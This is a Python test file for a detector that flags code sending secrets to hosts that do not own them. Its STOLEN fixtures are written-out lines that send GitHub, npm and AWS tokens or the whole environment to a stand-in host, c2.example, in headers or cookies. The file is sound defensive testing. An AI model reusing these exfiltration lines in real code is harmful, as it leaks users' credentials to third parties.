"""Whose a secret is that a request carries where it says who asks."""

from __future__ import annotations

import pytest

from fimci.capabilities.owners import all_astray, astray, owns
from fimci.model import Capability
from fimci.readers.code import javascript, python


@pytest.mark.parametrize(
    ("host", "variable", "expected"),
    [
        ("api.github.com", "GITHUB_TOKEN", True),
        ("api.github.com", "GH_TOKEN", True),
        ("collect.example", "GITHUB_TOKEN", False),
        ("collect.example", "API_TOKEN", True),
        ("api.acme.example", "ACME_API_KEY", True),
    ],
)
def test_a_variable_is_named_after_its_host(host: str, variable: str, *, expected: bool) -> None:
    assert owns(host, variable) is expected


def test_nothing_goes_astray_without_a_host_or_a_well_known_name() -> None:
    assert astray("collect.example", ["NPM_TOKEN"])
    assert not astray("", ["NPM_TOKEN"])
    assert not astray("collect.example", ["ACME_TOKEN"])
    assert not astray("collect.example", [])


def test_what_may_be_that_of_its_host_is_not_taken_for_stolen() -> None:
    assert astray("api.github.com", ["GITHUB_TOKEN", "NPM_TOKEN"])
    assert not all_astray("api.github.com", ["GITHUB_TOKEN", "NPM_TOKEN"])
    assert all_astray("collect.example", ["GITHUB_TOKEN", "NPM_TOKEN"])


GH = "const t = require('child_process').execSync('gh auth token').toString()"
STOLEN = [
    ("a.js", f"{GH}; fetch('https://c2.example/', {{headers: {{cookie: t}}}})"),
    ("a.js", f"{GH}; require('https').get('https://c2.example/', {{headers: {{'x-data': t}}}})"),
    ("a.py", "requests.get('https://c2.example/', headers={'X-Data': os.environ['NPM_TOKEN']})"),
    (
        "a.py",
        "requests.get('https://c2.example/', headers={'Authorization': os.getenv('AWS_SECRET_ACCESS_KEY')})",
    ),
    ("a.py", "requests.get('https://c2.example/', cookies=dict(os.environ))"),
    ("a.py", "requests.get('https://c2.example/', headers={'X-Data': str(dict(os.environ))})"),
    ("a.js", "fetch('https://c2.example/', {headers: {'x-data': process.env.NPM_TOKEN}})"),
    (
        "a.js",
        "fetch('https://c2.example/', {headers: {authorization: `Bearer ${process.env.GITHUB_TOKEN}`}})",
    ),
    ("a.js", "fetch('https://c2.example/', {headers: {'x-data': JSON.stringify(process.env)}})"),
    ("a.js", "const t = process.env['NPM_TOKEN']; fetch('https://c2.example/', {headers: {cookie: t}})"),
]
ASKED_FOR = [
    ("a.js", f"{GH}; fetch('https://api.github.com/user', {{headers: {{authorization: t}}}})"),
    ("a.js", "fetch('https://a.example/', {headers: {'x-csrf': document.cookie}})"),
    ("a.py", "import subprocess; subprocess.run(['curl', url], env=dict(os.environ))"),
    (
        "a.py",
        "requests.get('https://api.github.com/user', headers={'Authorization': os.environ['GITHUB_TOKEN']})",
    ),
    ("a.py", "requests.get('https://api.acme.example/', headers={'X-Api-Key': os.environ['ACME_API_KEY']})"),
    ("a.py", "requests.get(url, headers={'Authorization': os.environ['GITHUB_TOKEN']})"),
    ("a.js", "fetch('https://api.github.com/user', {headers: {authorization: process.env.GITHUB_TOKEN}})"),
    ("a.js", "fetch('https://api.acme.example/', {headers: {'x-api-key': process.env.ACME_API_KEY}})"),
    ("a.js", "fetch(url, {headers: {authorization: process.env.NPM_TOKEN}})"),
]


def exfiltrates(path: str, line: str) -> bool:
    text = f"import os, requests\n{line}\n" if path.endswith(".py") else line
    reader = python if path.endswith(".py") else javascript
    found = (one for one in reader.read(path, text.encode()) if isinstance(one, Capability))
    return any(one.name == "exfiltration" for one in found)


@pytest.mark.parametrize(("path", "line"), STOLEN)
def test_a_secret_of_somebody_else_is_stolen_by_a_header_too(path: str, line: str) -> None:
    assert exfiltrates(path, line)


@pytest.mark.parametrize(("path", "line"), ASKED_FOR)
def test_what_a_service_asks_for_is_not_stolen(path: str, line: str) -> None:
    assert not exfiltrates(path, line)
